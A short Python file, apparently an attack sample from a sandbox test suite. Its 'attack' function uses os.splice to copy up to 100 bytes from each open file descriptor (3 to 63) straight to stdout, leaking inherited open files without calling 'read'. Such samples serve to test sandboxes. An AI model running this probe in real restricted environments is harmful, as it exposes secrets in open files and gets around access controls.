"""Splices and copies whatever is open to the printing pipe, by calls other than `read`."""

import contextlib
import os

CONTROL = "inside"


def attack(A):
    for descriptor in range(3, 64):
        with contextlib.suppress(OSError):
            os.splice(descriptor, 1, 100, offset_src=0)
